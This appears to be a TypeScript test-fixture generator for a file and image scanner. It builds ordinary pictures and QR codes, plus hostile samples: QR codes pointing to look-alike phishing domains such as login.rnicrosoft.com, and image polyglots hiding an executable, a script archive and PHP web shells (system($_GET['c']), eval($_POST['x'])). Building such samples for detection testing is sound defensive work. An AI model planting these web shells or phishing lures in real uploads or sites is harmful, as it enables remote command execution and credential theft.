import { deflateSync } from 'node:zlib'
import jpeg from 'jpeg-js'
import encodeQR from 'qr'
import { makePe } from '../../../analyzers/src/executable/program-samples.ts'
import { pngChunk } from '../../../analyzers/src/qr/image-samples.ts'
import { type Entry, files, noise, sampleFiles, word } from '../entry.ts'
import { zip } from './zip.ts'

export interface Raster {
  readonly width: number
  readonly height: number
  /** Red, green, blue. */
  readonly pixels: Buffer
}

/** A small QR code on a page with other content, as letters have it. */
export function codeRaster(text: string, scale = 5, margin = 30): Raster {
  const modules = encodeQR(text, 'raw', { border: 3 })
  const side = modules.length * scale + 2 * margin
  const pixels = Buffer.alloc(side * side * 3, 250)
  for (const [y, row] of modules.entries())
    for (const [x, isDark] of row.entries())
      if (isDark)
        for (let line = 0; line < scale; line += 1) {
          const at = ((margin + y * scale + line) * side + margin + x * scale) * 3
          pixels.fill(20, at, at + scale * 3)
        }
  return { width: side, height: side, pixels }
}

const landscape = (width: number, height: number, seed: number): Raster => {
  const grain = noise(width * height, seed)
  const pixels = Buffer.alloc(width * height * 3)
  for (let at = 0; at < width * height; at += 1) {
    const [x, y] = [at % width, Math.floor(at / width)]
    const rough = (grain[at] ?? 0) >> 5
    pixels[at * 3] = (90 + x / 4 + seed * 10 + rough) & 255
    pixels[at * 3 + 1] = (140 + y / 5 + rough) & 255
    pixels[at * 3 + 2] = (200 - y / 3 + rough) & 255
  }
  return { width, height, pixels }
}

export function asJpeg({ width, height, pixels }: Raster, quality = 80): Buffer {
  const data = Buffer.alloc(width * height * 4, 255)
  for (let at = 0; at < width * height; at += 1) pixels.copy(data, at * 4, at * 3, at * 3 + 3)
  return jpeg.encode({ width, height, data }, quality).data
}

export function asPng({ width, height, pixels }: Raster): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2], 8)
  const rows = Buffer.alloc((width * 3 + 1) * height)
  for (let y = 0; y < height; y += 1)
    pixels.copy(rows, y * (width * 3 + 1) + 1, y * width * 3, (y + 1) * width * 3)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('tEXt', Buffer.from('Software\0Adobe ImageReady')),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

export const photo = (seed: number): Buffer => asJpeg(landscape(96, 64, seed))

const gif = Buffer.from(
  'R0lGODlhEAAQAJEAAP8AAAD/AAAA/////yH5BAAAAAAALAAAAAAQABAAAAIjjI+py+0Po5y02ouz3rz7D4biSJbmiabqyrbuC8fyTNf2jecFADs=',
  'base64',
)

function bmp(): Buffer {
  const head = Buffer.alloc(54)
  head.write('BM')
  head.writeUInt32LE(54 + 32 * 32 * 3, 2)
  head.writeUInt32LE(54, 10)
  head.writeUInt32LE(40, 14)
  head.writeInt32LE(32, 18)
  head.writeInt32LE(32, 22)
  head.writeUInt16LE(1, 26)
  head.writeUInt16LE(24, 28)
  return Buffer.concat([head, Buffer.alloc(32 * 32 * 3, 0x7f)])
}

function ico(): Buffer {
  const png = asPng(landscape(32, 32, 3))
  const head = Buffer.from('000001000100202000000100180000000000' + '16000000', 'hex')
  head.writeUInt32LE(png.length, 14)
  return Buffer.concat([head, png])
}

/** What a camera writes before the image. */
function withComment(picture: Buffer, comment: string): Buffer {
  const text = Buffer.from(comment)
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([picture.subarray(0, 2), head, text, picture.subarray(2)])
}

const lure = 'https://login.rnicrosoft.com/common/oauth2?u=jane.doe@corp.example'
const other = 'https://www.paypa1.com/signin'
const parcel = 'https://www.micros0ft-support.com/qr?e=jane.doe@corp.example'

export const pictureEntries = (): Entry[] => [
  ...files('picture', 'ordinary pictures', [
    ['IMG_0001.jpg', photo(1)],
    ['IMG_0002.JPG', photo(4)],
    ['DSC00042.jpeg', withComment(photo(5), 'Shot at the lake, 2026')],
    ['logo.png', asPng(landscape(64, 64, 2))],
    ['banner.png', asPng(landscape(200, 60, 6))],
    ['Screenshot 2026-06-01.png', asPng(landscape(120, 80, 7))],
    ['spacer.gif', gif],
    ['old.bmp', bmp()],
    ['favicon.ico', ico()],
    [
      'icon.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z"/></svg>',
    ],
    [
      'chart.svg',
      `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"><style>text{font:12px sans-serif}</style><a xlink:href="https://example.org/data"><text x="10" y="20">Sales</text></a>${Array.from({ length: 20 }, (_, at) => `<rect x="${at * 14}" y="${at * 3}" width="10" height="${200 - at * 3}"/>`).join('')}</svg>`,
    ],
    [
      'drawing.svg',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" inkscape:version="1.3"><sodipodi:namedview/><g><circle cx="5" cy="5" r="4"/></g></svg>',
    ],
  ]),
  ...files('picture', 'codes to scan', [
    ['wifi.png', asPng(codeRaster('WIFI:T:WPA;S:Guest;P:sunshine2026;;'))],
    [
      'contact.png',
      asPng(codeRaster('BEGIN:VCARD\nVERSION:3.0\nN:Doe;Jane\nTEL:+41441234567\nEND:VCARD')),
    ],
    ['menu.jpg', asJpeg(codeRaster('https://www.restaurant.example.org/menu'))],
    ['museum.png', asPng(codeRaster('https://www.louvre.fr/en/visit'))],
    ['train.jpg', asJpeg(codeRaster('https://www.sbb.ch/en'))],
    [
      'bill.png',
      asPng(
        codeRaster(
          'SPC\n0200\n1\nCH4431999123000889012\nS\nMax Muster\nStrasse\n1\n8000\nZurich\nCH\n\n\n\n\n\n\n\n50.00\nCHF\n\n\n\n\n\n\n\nNON\n\n\nEPD',
        ),
      ),
    ],
    [
      'event.png',
      asPng(codeRaster('BEGIN:VEVENT\nSUMMARY:Concert\nDTSTART:20260601T190000Z\nEND:VEVENT')),
    ],
  ]),
  ...sampleFiles('picture', 'code to a look-alike', /^(?:qr|url|domain)\./, [
    ['MFA update.png', asPng(codeRaster(lure))],
    ['scan me.jpg', asJpeg(codeRaster(lure))],
    ['parking.png', asPng(codeRaster(other, 3, 60))],
    ['delivery.jpg', asJpeg(codeRaster(parcel, 4, 10), 60)],
  ]),
  ...sampleFiles('picture', 'more than a picture', /^(?:file|archive|yara|script)\./, [
    ['cat.gif', Buffer.concat([gif, zip({ 'run.js': 'WScript.Echo(1)' })])],
    ['chart.png', Buffer.concat([asPng(landscape(20, 20, 1)), makePe()])],
    ['avatar.jpg', withComment(photo(3), word('<?p', 'hp sys', 'tem($_GET["c"]); ?>'))],
    ['photo.jpg', makePe()],
    [
      'upload.gif',
      Buffer.concat([
        Buffer.from('GIF89a;\n'),
        Buffer.from(word('<?p', 'hp ev', 'al($_POST["x"]); ?>')),
      ]),
    ],
  ]),
]
